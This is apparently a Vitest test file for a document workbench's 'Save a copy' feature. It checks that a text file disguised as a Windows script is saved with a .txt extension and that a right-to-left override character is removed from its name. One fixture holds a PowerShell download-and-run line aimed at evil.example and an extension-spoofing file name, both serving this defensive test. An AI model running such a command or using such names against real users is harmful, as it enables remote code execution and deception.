// @vitest-environment jsdom
/**
 * "Save a copy" of an evidence document: the operating system opens the copy by its name's extension, not by
 * the media type the workbench read from the bytes. An applicant's plain text named zones.cmd (previewed here
 * as harmless text) was saved as zones.cmd, a script Windows runs on a double click.
 */
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { cleanup, fireEvent, render, screen } from '@testing-library/react'
import { stubApi } from '../fixtures'
import type { DocumentMediaType } from '../../../../src/shared/domain/documents'

const { api } = stubApi({})
;(window as unknown as { api: unknown }).api = api
const { useAppStore } = await import('../../../../src/renderer/src/stores')
const { DocumentPreview } = await import('../../../../src/renderer/src/features/documents/DocumentPreview')

let saved: string[] = []
beforeEach(() => {
  useAppStore.setState(useAppStore.getInitialState(), true)
  saved = []
  // jsdom has no object URLs and does not download: the anchor's name is what the browser would save under
  Object.assign(URL, { createObjectURL: () => 'blob:x', revokeObjectURL: () => undefined })
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    saved.push(this.download)
  })
})
afterEach(() => {
  cleanup()
  vi.restoreAllMocks()
})

function preview(name: string, mediaType: DocumentMediaType, text: string): void {
  const base64 = btoa(text)
  const sha256 = 'a'.repeat(64)
  useAppStore.setState({
    preview: {
      document: {
        sha256,
        name,
        mediaType,
        size: text.length,
        importedAt: '2026-11-24T09:00:00.000Z',
        importedBy: 'dana'
      },
      content: { sha256, name, mediaType, base64 }
    }
  })
}

describe('Save a copy', () => {
  it('saves plain text named as a script with the extension of what it is', () => {
    preview('zones\u202Etxt.cmd', 'text/plain', 'powershell -c "iwr evil.example | iex"\n')
    render(<DocumentPreview />)
    fireEvent.click(screen.getByRole('button', { name: 'Save a copy' }))
    expect(saved).toEqual(['zonestxt.cmd.txt'])
  })

  it('keeps a name that already says what the document is', () => {
    preview('AZ zones.TXT', 'text/plain', 'three zones\n')
    render(<DocumentPreview />)
    fireEvent.click(screen.getByRole('button', { name: 'Save a copy' }))
    expect(saved).toEqual(['AZ zones.TXT'])
  })
})
